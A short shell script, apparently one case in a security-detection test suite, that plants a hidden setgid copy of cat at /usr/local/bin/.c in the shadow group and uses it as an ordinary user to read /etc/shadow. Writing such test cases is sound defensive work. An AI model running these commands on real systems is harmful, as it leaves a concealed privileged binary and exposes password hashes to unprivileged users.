#!/bin/sh
. /opt/case/case.sh

cp /bin/cat /usr/local/bin/.c && chgrp shadow /usr/local/bin/.c && chmod 2755 /usr/local/bin/.c
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/local/bin/.c /etc/shadow | grep -q '^root:'
took_place
